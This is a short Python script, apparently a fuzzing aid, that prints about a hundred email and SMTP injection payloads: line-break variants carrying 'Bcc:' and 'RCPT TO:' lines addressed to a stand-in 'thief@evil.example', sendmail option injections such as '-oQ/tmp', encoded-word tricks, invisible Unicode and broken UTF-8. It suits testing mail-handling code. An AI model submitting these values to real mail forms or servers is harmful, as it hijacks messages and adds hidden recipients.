#!/usr/bin/python3
"""attacks.py [--text]: texts that would become a header, a command or another recipient if they were taken at their word.

One a line, as hexadecimal bytes; with --text as Python writes them. A hundred payloads in four places: alone, behind and before a name,
and inside of an address.
"""
import sys

BREAKS = [b"\r\n", b"\n", b"\r", b"\n\r", b"\r\r\n", b"\x00\r\n", b"\x0b", b"\x0c", b"\x85", "\u0085".encode(), "\u2028".encode(),
          "\u2029".encode(), b"%0d%0a", b"\\r\\n", "\u560d\u560a".encode(), b"\xc0\x8d\xc0\x8a"]
LINES = [b"Bcc: thief@evil.example", b"\r\nNot a letter", b"RCPT TO:<thief@evil.example>", b".\r\nMAIL FROM:<thief@evil.example>"]

ADDRESSES = [b"<thief@evil.example>", b"a@b.example>,<thief@evil.example", b"-oQ/tmp", b"-f thief@evil.example", b"--help",
             b"a@b.example SIZE=1", b"a@b.example> NOTIFY=SUCCESS", b"a@b.example\tBODY=8BITMIME", b'"a b"@evil.example',
             b'"\r\nRCPT TO:<x@evil.example>"@b.example', b"a@[127.0.0.1]", b"@relay.example:a@b.example", b"a%evil.example@b.example>",
             b"a@b.example, thief@evil.example", b"a@b.example; thief@evil.example", b"a@b@evil.example", b"a(comment)@evil.example",
             b"group: a@b.example, thief@evil.example;", "а@пример.example".encode(), "a@b。example".encode()]

WORDS = [b"=?utf-8?B?DQpCY2M6IHRoaWVmQGV2aWwuZXhhbXBsZQ==?=", b"=?utf-8?Q?=0D=0ABcc:_thief@evil.example?=",
         b"=?utf-8?Q?=00?=", b"=?us-ascii?Q?=0A?= =?us-ascii?Q?=0D?=", b"=?utf-8?B?DQo=?=", b"=?utf-8?Q?" + b"a" * 300 + b"?=", b"?=",
         b"=?=?=?", b"=0D=0ABcc: thief@evil.example", b"&#13;&#10;Bcc: thief@evil.example"]

UNSEEN = ["\u202ethief\u202c", "\u200b\u200b", "\ufeffBcc: thief@evil.example", "a\u0000b", "\u007f", "\u009b2J", "\x1b[2J", "\u00adBcc",
          "ｔｈｉｅｆ＠ｅｖｉｌ．ｅｘａｍｐｌｅ", "\u2066\u2069", "e\u0301" * 400, "👩‍👧‍👦" * 60, "\ud7ff\ue000",
          "\U0010ffff"]

BROKEN = [b"\xff\xfe", b"\xc3", b"\xe2\x82", b"\xed\xa0\x80", b"\xf8\x88\x80\x80\x80", b"\xf4\x90\x80\x80"]


def payloads():
    """A hundred of them."""
    bodies = [stop + line for line in LINES[:2] for stop in BREAKS]                                        # 32
    bodies += [stop + LINES[2] for stop in BREAKS[:6]] + [stop + LINES[3] for stop in BREAKS[:4]]          # 10
    bodies += ADDRESSES + WORDS + [text.encode() for text in UNSEEN] + BROKEN                              # 50
    bodies += [b"a" * 998, b"a" * 65537, "ā".encode() * 1000, b" " * 200, b"a " * 600, b".", b"\r\n.\r\n", b"From thief@evil.example"]
    return bodies


def attacks():
    for body in payloads():
        yield body
        yield "Jānis Bērziņš ".encode() + body
        yield body + b" Janis"
        yield b"janis" + body + b"@dienests.example"


def main():
    for attack in attacks():
        print(attack if "--text" in sys.argv else attack.hex())


if __name__ == "__main__":
    main()
